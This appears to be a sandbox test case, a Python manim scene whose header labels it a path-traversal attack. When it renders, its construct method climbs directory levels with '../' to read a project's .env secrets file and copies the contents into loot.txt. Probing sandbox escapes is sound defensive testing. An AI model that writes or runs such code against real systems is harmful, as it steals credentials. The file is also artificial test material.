# family: file
# layer: sandbox
# attack: ../../../ up to the root, then into the project
from manim import *


class Attack(Scene):
    def construct(self):
        up = "../" * 12
        loot = open(up + "{{PROJECT}}".lstrip("/") + "/.env").read()
        open("loot.txt", "w").write(loot)
        self.wait(0.1)
